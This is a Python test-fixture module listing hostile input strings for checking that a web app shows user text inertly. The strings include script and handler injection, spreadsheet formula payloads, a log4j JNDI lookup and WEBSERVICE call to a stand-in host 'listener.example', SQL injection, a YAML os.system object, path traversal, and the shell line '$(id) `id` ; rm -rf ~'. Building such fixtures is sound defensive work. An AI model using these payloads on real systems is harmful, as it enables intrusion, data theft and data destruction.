"""Strings that a person may type, paste or import to make a page do what it should not.

Each has a sentence on why it is here. What is written must be shown as it is written, or refused
in a plain sentence; it must never act.
"""

from dataclasses import dataclass

TRAP = "listener.example"
"""Where images and links in the strings lead. A test that listens puts its own address there."""

HALF = "\ud83d"
"""One half of a surrogate pair: no text at all, and yet a string in Python."""

MEGABYTE = "0123456789abcdef" * 65_536


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One string, its name in a test's report, and why it is here."""

    name: str
    text: str
    why: str

    def aimed_at(self, host: str) -> str:
        """The string with its links and images leading to a host of the test's own."""
        return self.text.replace(TRAP, host)


def _all(**strings: tuple[str, str]) -> tuple[Hostile, ...]:
    return tuple(Hostile(name=name, text=text, why=why) for name, (text, why) in strings.items())


HTML = _all(
    script=("Eve <script>pwned=1</script>", "The oldest trick: a script in a name."),
    handler=(
        f"<img src=//{TRAP}/h onerror=pwned=2>",
        "A page that strips scripts may leave handlers; the picture also calls out.",
    ),
    attribute=(
        "\" autofocus onfocus=pwned=3 x='",
        "It leaves an attribute that somebody forgot to quote.",
    ),
    svg=("<svg/onload=pwned=4>", "It needs no blank and no closing tag."),
    frame=(f"<iframe src=http://{TRAP}/f></iframe>", "Another page inside of ours."),
    closes=("</textarea></title></script><b>Eve", "It ends the element in which it stands."),
    entities=("&lt;b&gt;Eve&lt;/b&gt; &amp;copy; &#106;", "Decoded once too often, it is HTML."),
    style=("<style>*{display:none}</style>Eve", "A page that nobody can read any more."),
)
MARKDOWN = _all(
    image=(f"![Eve](http://{TRAP}/i.png)", "Whoever reads the page would fetch it."),
    link=(f"[your form](http://{TRAP}/l)", "A link that seems to be ours."),
    script_link=("[Eve](javascript:pwned=5)", "A link that is a script."),
    reference=(f"[Eve][1] [1]: http://{TRAP}/r", "A link whose address stands elsewhere."),
    angles=(f"<http://{TRAP}/a> <eve@{TRAP}>", "Links by angle brackets."),
    bare=(f"http://{TRAP}/b", "Pages make links of bare addresses by themselves."),
    www=(f"www.{TRAP}.com", "So they do of what begins with www."),
    mail=(f"eve@{TRAP}", "And of mail addresses."),
    emphasis=("**Eve** _Adam_ ~~Cain~~ `Abel`", "Bold, italic, struck through, code."),
    heading=("# Eve", "A heading at the beginning of a line."),
    rule=("---", "A line across the page."),
    quote=("> Eve", "A quotation."),
    numbered=("1. Eve", "A list."),
    table=("| a | b | |---|---| | c | d |", "A table."),
    footnote=("Eve[^1] [^1]: a note", "A footnote."),
    backslashes=("Eve \\* \\\\ \\[x\\](y)", "Escapes of one's own, so that ours come undone."),
)
STREAMLIT = _all(
    icon=(":material/delete: Eve", "Streamlit draws an icon."),
    color=(":red[Eve] :red-background[Eve]", "Streamlit colors the text."),
    small=(":small[Eve]", "Streamlit writes it small, as our own notes are."),
    badge=(":blue-badge[Approved]", "It looks like a mark of the program's."),
    logo=(":streamlit: Eve", "Streamlit draws its logo."),
    emoji=(":smile: :+1:", "Streamlit puts emoji in place of their names."),
    math=("$\\frac{1}{2}$ $$x$$", "Streamlit sets a formula."),
    arrows=("a -> b <- c <-> d -- e >= f ~= g", "Streamlit puts arrows and dashes in."),
)
FORMULAS = _all(
    equals=(f'=HYPERLINK("http://{TRAP}/x","Eve")', "A spreadsheet makes a link of it."),
    webservice=(f'=WEBSERVICE("http://{TRAP}/w")', "A spreadsheet fetches it."),
    plus=("+1+cmd|' /C calc'!A0", "Spreadsheets take + for a formula as well."),
    minus=("-2+3", "And -."),
    at=("@SUM(1,1)", "And @."),
    full_width=("＝1+1", "And the full-width signs."),
)
LINES = _all(
    line=("Eve\nAdam", "A line break where one line is expected."),
    return_=("Eve\r=1+1", "A carriage return: a new row in some spreadsheets."),
    tab=("\t=1+1", "A tab hides what a cell begins with."),
    separator=("Eve\u2028Adam\u2029Cain", "Line ends of Unicode, which end a line in JavaScript."),
    next_line=("Eve\x85Adam", "A line end of old mainframes."),
)
DIRECTION = _all(
    override=("Eve \u202egnp.exe", "It is read backwards, and so is what follows."),
    embedding=("\u202bEve \u202aAdam", "Embeddings that nobody ends."),
    isolates=("Eve \u2067Adam \u2068Cain", "Isolates that nobody ends."),
    hebrew=("חוה Eve 123", "A name from right to left, which is nobody's fault."),
)
HIDDEN = _all(
    zero_width=("E\u200bv\u200ce\u200d\ufeff", "It looks like a name, and is another one."),
    joined=("\u200b\u2060\ufeff", "It looks like no name at all."),
    tags=("Eve\U000e0041\U000e0042", "Letters that no page shows."),
)
CONTROL = _all(
    escape=("Eve\x1b[2J\x1b]0;pwned\x07", "A terminal clears its screen and renames its window."),
    backspace=("Eve\x08\x08\x08Adam", "A terminal shows another name than is stored."),
    c1=("Eve\x9b31m", "The same as an escape, in one character."),
)
PLACEHOLDERS = _all(
    braces=("{0} {partner} {mentor.__class__} {}", "Text that is formatted twice is run."),
    percent=("%s %d %(name)s %n 100%", "The same by the old way, and in logs."),
    jinja=("{{7*7}} {% raw %}", "The same in a template."),
    plotly=("%{customdata} %{x}", "The same in a chart."),
    dollar=("$(id) `id` ; rm -rf ~", "A shell would run it."),
    log4j=(f"${{jndi:ldap://{TRAP}/j}}", "A logger elsewhere did run it."),
)
QUOTES = _all(
    sql=("Robert'); DROP TABLE person;--", "A statement that was put together by hand."),
    like=("%_%", "It is like everybody."),
    json=('"}],"pwned":true,"x":[{"', "It leaves a text in JSON."),
    yaml=("!!python/object/apply:os.system ['id']", "It is an object in a careless YAML reader."),
    climbing=("../../../../etc/passwd", "A path out of its folder."),
    windows=("..\\..\\CON", "The same elsewhere, and a name that is none there."),
)
CHARTS = _all(
    plotly_link=(f'<a href="http://{TRAP}/p">Eve</a><br>x', "Charts have an HTML of their own."),
    plotly_script=('<a href="javascript:pwned=6">Eve</a>', "With scripts in its links."),
    plotly_style=('<span style="color:red">Eve</span><sub>x</sub>', "And with styles."),
)
LONG = _all(
    word=("W" * 200, "A word that fits into no column."),
    combining=("E" + "\u0301\u0323" * 90, "A tower of accents over and under its line."),
)
UNSTORABLE = _all(
    nul=("Eve\x00Adam", "A text ends there for C, and for some databases."),
    half=(f"Eve{HALF}", "Half a character: writing it fails."),
    other_half=("Eve\udc00", "The other half."),
)
HUGE = _all(
    megabyte=(MEGABYTE, "A megabyte where a word is expected."),
    spaces=(" " * 1_000_000 + "Eve", "A megabyte of nothing around a word."),
)

SHOWN = (
    *HTML,
    *MARKDOWN,
    *STREAMLIT,
    *FORMULAS,
    *LINES,
    *DIRECTION,
    *PLACEHOLDERS,
    *QUOTES,
    *CHARTS,
    *LONG,
)
"""What a name may be: it is taken, and shown as it is written, in one line."""
EVERY = (*SHOWN, *HIDDEN, *CONTROL, *UNSTORABLE, *HUGE)
